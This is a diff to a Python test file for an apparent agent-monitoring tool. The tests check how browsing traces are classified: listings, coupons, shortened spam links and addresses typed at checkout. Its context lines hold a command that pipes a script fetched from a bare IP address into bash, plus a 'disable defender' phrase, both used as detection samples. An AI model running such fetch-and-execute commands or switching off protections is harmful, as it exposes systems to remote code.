@@ -233,3 +233,48 @@ def test_running_a_download_from_a_bare_address_with_protections_off() -> None:
     assert runs_download(run, "disable defender and run it")
     assert not runs_download(["curl -sSf https://sh.rustup.rs | sh"], "install rust")
     assert not runs_download(["curl -s http://203.0.113.7/a.sh | bash"], "run the lab installer")
+
+
+def test_listings_coupons_and_links_that_hide_where_they_land() -> None:
+    from datetime import UTC, datetime
+
+    from tracewatch.monitor.aggregates import RollupFacets, shortened
+
+    listing = facets_of(
+        "Put the console up for sale.",
+        visit("https://market.example/listings/new", "Sell")
+        + comment("Console, barely used, with two controllers and the original box, 300."),
+        "The listing is live.",
+    )
+    assert "listing" in {t.kind for t in listing.transactions}
+    coupon = facets_of(
+        "Use the welcome code at checkout.",
+        visit("https://shop.example/checkout", "Checkout"),
+        "The promo code was applied.",
+    )
+    assert "coupon" in {t.kind for t in coupon.transactions}
+    assert shortened("Try it: https://bit.ly/3xYz now")
+    assert shortened("see https://news.example/out?url=https%3A%2F%2Fpills.example")
+    assert not shortened("our own page https://shop.example/p/kettle-2")
+    spam = facets_of(
+        "Reply with the link.",
+        visit("https://forum.example/t/sleep-tips-9", "Thread")
+        + comment("This fixed my sleep in a week, honestly, grab it here https://bit.ly/3xYz"),
+    )
+    signals = RollupFacets.from_summary("i", "a", datetime(2026, 10, 5, tzinfo=UTC), spam).signals()
+    assert signals["shortened_link_posts"] == 1
+
+
+def test_an_address_typed_into_a_checkout_is_a_contact_and_a_post_is_not() -> None:
+    checkout = [
+        ({"action": "type", "text": "14 Alder Street"}, "ok", None),
+        ({"action": "left_click", "coordinate": [5, 5]}, "Order placed", None),
+    ]
+    f = facets_of("Ship it to my place.", visit("https://shop.example/checkout", "Pay") + checkout)
+    assert f.contacts == [R.pseudonym("ADDRESS", "14 Alder Street")]
+    g = facets_of(
+        "Post the open house.",
+        visit("https://homes.example/t/open-house-3", "Thread")
+        + comment("Open house this Sunday at 14 Alder Street, everyone is welcome to come by."),
+    )
+    assert g.contacts == []
